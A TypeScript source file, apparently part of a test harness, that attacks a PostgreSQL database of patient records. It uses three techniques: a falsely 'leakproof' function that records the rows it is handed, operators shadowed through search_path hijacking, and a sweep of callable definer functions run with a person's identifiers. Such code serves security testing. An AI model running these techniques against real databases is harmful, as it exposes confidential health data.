import type { Person } from '../lab/people.ts';
import { textOf } from '../lab/session.ts';
import { searched } from './each.ts';
import { type Aim, type Technique, withoutPerson } from './technique.ts';

// Functions and operators of the attacker's own, which are handed whatever rows come by.

/** A function that keeps what it is given, in a table and in a message. */
const keeping = (schema: string, type: string): string => `
	create or replace function ${schema}.keep(one ${type}, other ${type}) returns boolean language plpgsql cost 0.0001 as
		$$ begin raise notice 'given %', one; insert into ${schema}.kept values (one::text); return true; end $$;`;

const counted = async ({ attacker: { session, schema }, relation }: Aim): Promise<string> => {
	const said: string[] = [];
	await session.run(`create table if not exists ${schema}.kept (value text); truncate ${schema}.kept;
		${keeping(schema, 'text')} ${keeping(schema, 'integer')}`);
	// Only a superuser may say so, and he need not.
	await session.run(`alter function ${schema}.keep(text, text) leakproof`);
	await session.run(`alter function ${schema}.keep(text, text) parallel safe`);
	for (const text of [
		`select * from ${relation.name} where ${schema}.keep(marker::text, '') and patient_id > 0`,
		`select * from ${relation.name} where ${schema}.keep(patient_id, 0)`,
		`select * from ${relation.name} as v where exists (select where ${schema}.keep(v.marker::text, v.marker::text))`,
		`select count(*) filter (where ${schema}.keep(marker::text, '')) from ${relation.name}`,
		`select * from ${relation.name} order by ${schema}.keep(marker::text, '')`,
		`select v.marker from ${relation.name} as v join (values ('a'), ('b')) as c (word) on ${schema}.keep(v.marker::text, c.word)`,
	])
		said.push(textOf(await session.run(text)));
	said.push(textOf(await session.run(`select distinct value from ${schema}.kept`)));
	return said.join(' ');
};

export const counter: Technique = { name: 'counter function', prepare: searched(counted) };

/** Operators under the names of the usual ones, in a path that is looked at first. */
const ownOperators = async ({ attacker: { session, schema }, relation }: Aim): Promise<string> => {
	const operators = ['integer', 'text'].flatMap((type) =>
		['=', '<', '>', '<>', '~'].map(
			(name) => `create operator ${schema}.${name} (function = ${schema}.keep, leftarg = ${type}, rightarg = ${type});`,
		),
	);
	await session.run(`create table if not exists ${schema}.kept (value text); truncate ${schema}.kept;
		${keeping(schema, 'text')} ${keeping(schema, 'integer')}`);
	for (const operator of operators) await session.run(operator);
	await session.run(`create or replace function ${schema}.nhs_number(text, text) returns bpchar language plpgsql as
		$$ begin raise notice 'given %', $1; return $1; end $$`);
	const said: string[] = [];
	await session.run(`set search_path = ${schema}, pg_temp, ndoo, public, pg_catalog`);
	for (const text of [
		`select * from ${relation.name}`,
		`select * from ${relation.name} where marker::text = ''`,
		`select * from ${relation.name} where patient_id < 0 or marker::text ~ 'x'`,
		`select * from ${relation.name} as v join (values ('a'), ('b')) as w (word) on v.marker::text = w.word`,
	])
		said.push(textOf(await session.run(text)));
	said.push(textOf(await session.run(`select distinct value from ${schema}.kept`)));
	await session.run('reset search_path');
	return said.join(' ');
};

export const operators: Technique = { name: 'own operators', prepare: searched(ownOperators) };

/** Everything that somebody else has made and this login may call with one value, or two of which the second is a form. */
export const otherFunctions: Technique = {
	name: 'definer function',
	isEverywhere: true,
	prepare: async ({ attacker: { session } }) => {
		const { rows } = await session.run(`
			select p.oid::regproc::text as name, pg_catalog.oidvectortypes(p.proargtypes) as arguments
			from pg_catalog.pg_proc as p
			join pg_catalog.pg_namespace as n on n.oid = p.pronamespace
			where n.nspname !~ '^(pg_|information_schema$)' and n.nspname !~ '^own_'
				and pg_catalog.has_function_privilege(p.oid, 'execute') and pg_catalog.has_schema_privilege(n.oid, 'usage')
				and p.prokind = 'f' and p.pronargs <= 2
			order by 1`);
		return async (person) => {
			const seen: Record<string, string> = {};
			for (const { name, arguments: types } of rows)
				for (const call of callsOf(String(types), person))
					seen[`${name}(${call.form})`] = withoutPerson(
						textOf(await session.run(`select count(*) as n, min(f::text) as least from ${name}(${call.values}) as f`)),
						person,
					);
			return seen;
		};
	},
};

type Call = { readonly form: string; readonly values: string };

function callsOf(types: string, { id, number, marker }: Person): readonly Call[] {
	const first = types.split(', ')[0] ?? '';
	if (first === '') return [{ form: '', values: '' }];
	const values = /int|numeric/.test(first) ? [String(id), number] : [`'${number}'`, `'${marker}'`];
	const rest = types.includes(', ') ? ", 'text'" : '';
	return values.map((value, at) => ({ form: `${types} ${at}`, values: `${value}${rest}` }));
}
